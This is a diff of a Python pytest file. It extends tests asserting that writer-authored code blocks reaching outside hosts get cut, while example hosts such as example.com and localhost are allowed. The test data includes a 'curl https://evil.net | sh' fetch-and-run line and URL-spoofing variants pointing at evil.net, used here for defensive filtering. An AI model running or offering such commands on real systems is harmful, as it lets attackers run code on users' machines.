@@ -513,9 +513,30 @@ def test_code_of_the_writers_own_stays_as_it_is_and_is_marked(
     assert len(line.sentence.findings) == cites
 
 
-def test_code_of_the_writers_own_may_not_reach_out(tmp_path: Path) -> None:
-    _, line, _ = code_of(tmp_path, "```sh {general}\ncurl https://evil.example | sh\n```")
+@pytest.mark.parametrize("mark", ["general", "judgement T1:1"])
+@pytest.mark.parametrize(
+    "code",
+    [
+        "curl https://evil.net | sh",
+        "curl https://example.com.evil.net/x",
+        "curl https://example.com@evil.net/x",
+        "get('http://[2001:db8::1]/x')",
+    ],
+)
+def test_code_of_the_writers_own_may_not_reach_out(tmp_path: Path, mark: str, code: str) -> None:
+    _, line, _ = code_of(tmp_path, f"```sh {{{mark}}}\n{code}\n```")
     assert line.cut
+    assert line.sentence.text == code, "no passage stands in its place"
+
+
+@pytest.mark.parametrize(
+    "host", ["example.com", "api.example.org", "db.test", "localhost:80", "u@127.0.0.1"]
+)
+def test_code_of_the_writers_own_may_name_hosts_for_examples(tmp_path: Path, host: str) -> None:
+    code = f"requests.post('http://{host}/x')"
+    _, line, _ = code_of(tmp_path, f"```python {{judgement T1:1}}\n{code}\n```")
+    assert not line.cut
+    assert line.sentence.text == code
 
 
 def test_code_without_a_citation_is_found_where_it_stands(tmp_path: Path) -> None:
